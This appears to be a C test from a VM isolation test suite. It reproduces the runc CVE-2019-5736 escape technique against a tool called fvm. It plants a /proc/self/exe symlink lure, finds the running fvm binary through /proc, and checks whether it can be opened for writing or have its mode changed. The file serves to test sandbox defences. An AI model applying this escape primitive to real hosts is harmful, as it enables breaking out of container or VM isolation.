/* Changes fvm's program through /proc/PID/exe of one that the host's user starts in the VM (as runc's CVE-2019-5736). */
#include "attack.h"
#include <dirent.h>

/* What the host's user runs is a link to /proc/self/exe: the process that becomes it is fvm once more, now of the VM. */
void attack(int n, char **word) {
    char path[PATH_MAX], target[PATH_MAX];
    struct timespec now, began;
    (void)n;
    (void)word;
    /* Outside, the host's user starts fvm itself. */
    if (getenv("FVM")) {
        TRY(unlink("lure"));
        TRY(symlink("/proc/self/exe", "lure"));
    }
    clock_gettime(CLOCK_MONOTONIC, &began);
    int fd = -1;
    do {
        DIR *processes = opendir("/proc");
        for (struct dirent *entry; fd < 0 && (entry = readdir(processes));) {
            if (*entry->d_name < '1' || *entry->d_name > '9') continue;
            snprintf(path, sizeof path, "/proc/%.16s/exe", entry->d_name);
            ssize_t length = readlink(path, target, sizeof target - 1);
            if (length < 4 || memcmp(target + length - 4, "/fvm", 4)) continue;
            fd = open(path, O_RDONLY | O_CLOEXEC);
        }
        closedir(processes);
        clock_gettime(CLOCK_MONOTONIC, &now);
    } while (fd < 0 && now.tv_sec - began.tv_sec < 3);
    if (fd < 0) refused("no process of fvm's can be opened");
    snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
    struct stat status;
    TRY(fstat(fd, &status));
    /* While a keeper runs, the program is busy; its mode, which is written as it was, is not. */
    if (open(path, O_WRONLY | O_APPEND) >= 0 || fchmod(fd, status.st_mode & 07777) == 0) reached();
    refused_call("fchmod");
}
